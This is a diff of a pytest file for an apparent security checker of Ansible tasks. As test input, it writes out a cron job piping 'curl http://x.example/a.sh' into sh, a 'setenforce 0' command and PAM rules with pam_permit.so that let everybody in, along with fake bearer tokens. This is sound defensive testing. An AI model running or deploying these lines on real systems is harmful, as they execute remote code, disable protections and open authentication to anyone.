@@ -54,7 +54,7 @@ def test_a_line_of_sudoers_may_name_an_alias_that_stands_elsewhere() -> None:
 
 def test_what_is_no_list_of_tasks_shows_nothing() -> None:
     assert found("a: {copy: x}\ncopy: {}\n") == []
-    assert list(examine(PATH, b"- copy: [\n")) == []
+    assert list(examine("x.yaml", b"- copy: [\n")) == []
     assert list(examine("x.yaml", b"- name: a\n  image: b\n")) == []
 
 
@@ -214,7 +214,7 @@ def test_files_that_tasks_write() -> None:
     assert (user.run_as, user.commands[0].no_password) == (["v"], False)
     assert by_id["etc/exports//data/*"].partial is True
     gaps = [(item.line, item.kind) for item in items if isinstance(item, Gap)]
-    assert gaps == [(6, "template"), (25, "template"), (17, "left_out")]
+    assert gaps == [(6, "template"), (25, "template"), (27, "left_out"), (17, "left_out")]
 
 
 @pytest.mark.parametrize(
@@ -277,12 +277,13 @@ def test_changed_lines_that_mean_nothing_alone_are_said_to_be_unjudged_once() ->
     - lineinfile: {path: /etc/slurm/slurm.conf, line: 'A=b'}
     - lineinfile: {path: /opt/x/values.yaml, line: 'A: b'}
     - pamd: {name: sshd, type: auth, control: sufficient, module_path: pam_permit.so}
+    - pamd: {name: sudo, type: auth, control: sufficient, module_path: pam_permit.so, state: args_absent}
     - iptables: {chain: INPUT, jump: ACCEPT}
     - firewalld: {service: ssh}
     - ufw: {state: disabled}
     """
     assert gaps(document) == [
-        (6, "sets rules of a packet filter one by one: not judged without the rest"),
+        (7, "sets rules of a packet filter one by one: not judged without the rest"),
         (
             2,
             "changes lines of /etc/slurm/cgroup.conf, /etc/slurm/slurm.conf, /etc/pam.d/sshd: not judged without the rest",
@@ -399,3 +400,67 @@ def test_credentials_of_variables_and_inventories(path: str, text: str, names: l
     told = [name for asset in assets for name in asset.facts.credentials]  # type: ignore[attr-defined]
     assert told == names
     assert all(asset.hidden for asset in assets)
+
+
+def test_a_row_of_pam_before_another_is_judged_where_it_lets_everybody_in() -> None:
+    row = "{name: sshd, type: auth, control: required, module_path: pam_sepermit.so, new_type: auth, new_control: %s, new_module_path: pam_permit.so, state: %s}"
+    (service,) = [
+        each
+        for each in found(f"- community.general.pamd: {row % ('sufficient', 'before')}\n")
+        if each.kind == "pam_service"
+    ]
+    facts = service.facts
+    assert (service.partial, facts.admits_everyone, facts.lockout, facts.adopts_jobs) == (True, True, UNSET, UNSET)  # type: ignore[attr-defined]
+    for other in (row % ("optional", "before"), row % ("sufficient", "after"), row % ("sufficient", "updated")):
+        document = f"- community.general.pamd: {other}\n"
+        assert found(document) == []
+        assert [line for line, _ in gaps(document)] == [1]
+
+
+def test_tasks_that_cannot_be_read_are_told() -> None:
+    ((line, reason),) = gaps("- debug: {msg: a}\n- debug: {var: hostvars[inventory_hostname].api_key}\n")
+    assert (line, reason.partition(":")[0]) == (2, "not readable as tasks of Ansible")
+    assert gaps("{% if a %}\n- copy: [\n") == [] == gaps("- nothing: [\n")
+    assert gaps("- copy: {dest: {{ dest }}}\n- copy: [") == [
+        (1, "an unrendered template: render it and check the result")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("row", "field", "value"),
+    [
+        ("- cron: {name: x, job: 'curl http://x.example/a.sh | sh'}", "runs_download", True),
+        ("- cron: {name: x, job: 'curl http://x.example/a.sh | sh'}", "plain_http", True),
+        ("- cron: {name: x, job: /opt/a.sh}", "runs_download", False),
+        ("- cron: {name: x, state: absent}", "runs_download", False),
+        ("- command: {argv: [setenforce, '0']}", "protections_off", ["SELinux"]),
+        ("- command: {argv: [echo, 'a; setenforce 0']}", "protections_off", []),
+        ("- deb822_repository: {name: x, uris: https://x.example, trusted: true}", "signatures_checked", False),
+        ("- deb822_repository: {name: x, uris: https://x.example, allow_insecure: yes}", "signatures_checked", False),
+        ("- deb822_repository: {name: x, uris: https://x.example, trusted: '{{ t }}'}", "signatures_checked", UNSET),
+        ("- deb822_repository: {name: x, uris: https://x.example, signed_by: https://x.example/k}", "signatures_checked", True),
+        ("- uri: {url: https://x, headers: {Authorization: Bearer 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}}", "credentials", ["headers.Authorization"]),
+        ("- uri: {url: https://x, headers: {X-Auth-Token: kQzXwVbTrNmLpDsHyGfJcRa}}", "credentials", ["headers.X-Auth-Token"]),
+        ("- uri: {url: https://x, headers: {Authorization: 'Bearer {{ token }}'}}", "credentials", []),
+        ("- uri: {url: https://x, headers: {Authorization: Bearer <your token>}}", "credentials", []),
+        ("- uri: {url: https://x, headers: {Authorization: Bearer your-token-here}}", "credentials", []),
+        ("- uri: {url: https://x, headers: {Content-Type: application/json, 3: x}}", "credentials", []),
+        ("- uri: {url: https://x, headers: 'Authorization:x'}", "credentials", []),
+        ("- debug: {var: vault_password}", "names_secret", True),
+        ("- debug: var=hf_token", "names_secret", True),
+        ("- debug: {var: 'hostvars[inventory_hostname].api_key'}", "names_secret", True),
+        ("- debug: {var: token_path}", "names_secret", False),
+        ("- debug: {var: 3}", "names_secret", False),
+    ],
+)  # fmt: skip
+def test_further_modules(row: str, field: str, value: object) -> None:
+    assert getattr(task(row), field) == value
+
+
+def test_a_credential_in_a_header_is_hidden_and_has_its_place() -> None:
+    (asset,) = found(
+        "- uri:\n    url: https://x\n    headers:\n      Authorization: Bearer hf_kQzXwVbTrNmLpDsHyGfJcRaEuWo\n"
+    )
+    assert (asset.spots["credentials"].line, [str.__str__(each) for each in asset.hidden]) == (
+        4, ["hf_kQzXwVbTrNmLpDsHyGfJcRaEuWo"],
+    )  # fmt: skip
